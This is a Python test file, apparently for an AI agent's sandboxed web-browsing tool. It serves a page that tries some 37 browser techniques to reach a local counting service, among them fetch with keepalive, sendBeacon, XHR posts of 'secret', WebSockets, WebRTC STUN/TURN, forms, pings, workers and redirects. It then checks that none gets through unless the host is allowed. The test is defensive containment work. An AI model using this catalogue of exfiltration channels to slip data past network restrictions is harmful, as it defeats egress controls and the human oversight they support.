"""Ways of a page to hosts that its browser may not reach."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
from aiohttp import web

from agentrl.tools.builtin.web.tool import Web
from agentrl.types.task import Task
from tests.tools.builtin.web.conftest import LONG_S

pytestmark = pytest.mark.slow

WAYS = {  # a body of JavaScript each; `at` is host:port of the service
    "fetch": "return fetch(`http://${at}/fetch`, {mode: 'no-cors'})",
    "fetch that outlives the page": "return fetch(`http://${at}/keep`, {mode: 'no-cors', keepalive: true})",
    "fetch by https": "return fetch(`https://${at}/`, {mode: 'no-cors'})",
    "fetch with credentials in the address": "const u = new Image(); u.src = `http://a:b@${at}/`",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', `http://${at}/xhr`); x.send('secret')",
    "beacon": "navigator.sendBeacon(`http://${at}/beacon`, 'secret')",
    "event source": "new EventSource(`http://${at}/events`)",
    "web socket": "new WebSocket(`ws://${at}/socket`)",
    "web transport": "return new WebTransport(`https://${at}/transport`).ready",
    "image": "add('img', {src: `http://${at}/image`})",
    "script": "add('script', {src: `http://${at}/script`})",
    "module": "return import(`http://${at}/module.js`)",
    "style": "add('link', {rel: 'stylesheet', href: `http://${at}/style`})",
    "imported style": "add('style', {textContent: `@import url(http://${at}/imported)`})",
    "font": "const f = new FontFace('f', `url(http://${at}/font)`); return f.load()",
    "background": "document.body.style.background = `url(http://${at}/background)`",
    "prefetch": "add('link', {rel: 'prefetch', href: `http://${at}/prefetch`})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: `http://${at}/preload`})",
    "preconnect": "add('link', {rel: 'preconnect', href: `http://${at}/`})",
    "speculation rules": """add('script', {type: 'speculationrules', textContent:
        JSON.stringify({prefetch: [{urls: [`http://${at}/speculation`]}]})})""",
    "icon": "add('link', {rel: 'icon', href: `http://${at}/icon`})",
    "frame": "add('iframe', {src: `http://${at}/frame`})",
    "frame of a document": "add('iframe', {srcdoc: `<img src=http://${at}/document>`})",
    "refresh": "add('iframe', {srcdoc: `<meta http-equiv=refresh content='0; url=http://${at}/refresh'>`})",
    "object": "add('object', {data: `http://${at}/object`})",
    "embed": "add('embed', {src: `http://${at}/embed`})",
    "video": "add('video', {src: `http://${at}/video`, preload: 'auto'}).load()",
    "audio": "add('audio', {src: `http://${at}/audio`, preload: 'auto'}).load()",
    "picture of svg": "add('div', {innerHTML: `<svg><image href=http://${at}/svg /></svg>`})",
    "form": """const frame = add('iframe', {name: 'there'});
        const form = add('form', {action: `http://${at}/form`, method: 'post', target: 'there'}); form.submit()""",
    "ping": """add('iframe', {name: 'here'});
        add('a', {href: '/tried', ping: `http://${at}/ping`, target: 'here'}).click()""",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('http://${at}/worker', {mode: 'no-cors'})`])))",
    "shared worker":
        "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://${at}/shared', {mode: 'no-cors'})`])))",
    "redirect": "return fetch('/redirect', {mode: 'no-cors'})",
    "window": "window.open(`http://${at}/window`)",
    "STUN": """const peer = new RTCPeerConnection({iceServers: [{urls: `stun:${at}`}]}); peer.createDataChannel('x');
        return peer.createOffer().then(offer => peer.setLocalDescription(offer))""",
    "TURN": """const turn = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [
            {urls: [`turn:${at}?transport=udp`, `turn:${at}?transport=tcp`], username: 'secret', credential: 'x'}]});
        turn.createDataChannel('x'); return turn.createOffer().then(offer => turn.setLocalDescription(offer))""",
}  # fmt: skip

PAGE = """<!DOCTYPE html><title>Ways</title><body><script>
const at = {at};
const add = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
const wait = ms => new Promise(done => setTimeout(done, ms));
const way = async act => {{ try {{ await Promise.race([act(), wait(2000)]); }} catch (error) {{ }} }};
Promise.all([{ways}].map(way)).then(() => wait(1000)).then(() => fetch('/tried'));
</script>"""


class Counts(asyncio.DatagramProtocol):
    """A service of TCP and UDP that counts who comes."""

    def __init__(self) -> None:
        self.came: list[str] = []

    def datagram_received(self, data: bytes, address: Any) -> None:
        self.came.append(f"udp {data[:20]!r}")

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.came.append((await reader.read(1000)).decode("latin-1").partition(" HTTP")[0][:80] or "a connection")
        writer.close()


@asynccontextmanager
async def service() -> AsyncIterator[tuple[str, list[str]]]:
    """Runs it; gives its address and what came."""
    counts = Counts()
    server = await asyncio.start_server(counts.serve, "127.0.0.1", 0)
    place = server.sockets[0].getsockname()[:2]
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: counts, local_addr=place)
    try:
        yield f"127.0.0.1:{place[1]}", counts.came
    finally:
        transport.close()
        server.close()


@asynccontextmanager
async def page_that_tries(at: str) -> AsyncIterator[tuple[str, asyncio.Event]]:
    """Serves a page that tries all ways to `at`; gives its address, and an event: all were tried."""
    tried = asyncio.Event()

    async def page(request: web.Request) -> web.Response:
        ways = ", ".join(f"() => {{ {body} }}" for body in WAYS.values())
        return web.Response(text=PAGE.format(at=json.dumps(at), ways=ways), content_type="text/html")

    async def done(request: web.Request) -> web.Response:
        if "ping" not in str(request.headers.get("Sec-Fetch-Dest")) and request.headers.get("Sec-Fetch-Mode") == "cors":
            tried.set()
        return web.Response(text="done")

    async def redirect(request: web.Request) -> web.Response:
        raise web.HTTPFound(f"http://{at}/redirected")

    app = web.Application()
    app.add_routes([web.get("/ways", page), web.get("/tried", done), web.get("/redirect", redirect)])
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await (listener := web.TCPSite(runner, "127.0.0.1", 0)).start()
    try:
        yield listener.name, tried
    finally:
        await runner.cleanup()


@pytest.mark.parametrize("allowed", [False, True])
async def test_no_way_of_a_page_leads_out(allowed: bool) -> None:
    async with service() as (at, came), page_that_tries(at) as (address, tried):
        allow = [address.removeprefix("http://"), *([at] if allowed else [])]
        tool = Web(url=f"{address}/ways", allow=allow, load_s=LONG_S, settle_s=1.0)
        try:
            await tool.open(Task.of("t", "Look."), None)
            async with asyncio.timeout(LONG_S):
                await tried.wait()
        finally:
            await tool.close()
    if allowed:  # else the page would prove nothing
        assert len(came) > 25, came
    else:
        assert came == []
